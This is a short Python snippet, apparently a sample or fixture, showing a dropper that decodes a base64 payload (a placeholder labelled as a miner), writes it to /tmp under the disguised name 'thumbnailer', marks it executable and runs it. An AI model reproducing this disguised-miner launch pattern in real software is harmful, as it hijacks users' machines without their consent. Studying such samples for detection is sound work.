# A miner under a harmless name: only its content gives it away.
import base64, os, subprocess
with open("/tmp/thumbnailer", "wb") as file:
    file.write(base64.b64decode("@MINER@"))
os.chmod("/tmp/thumbnailer", 0o755)
out = subprocess.check_output(["/tmp/thumbnailer"]).decode()
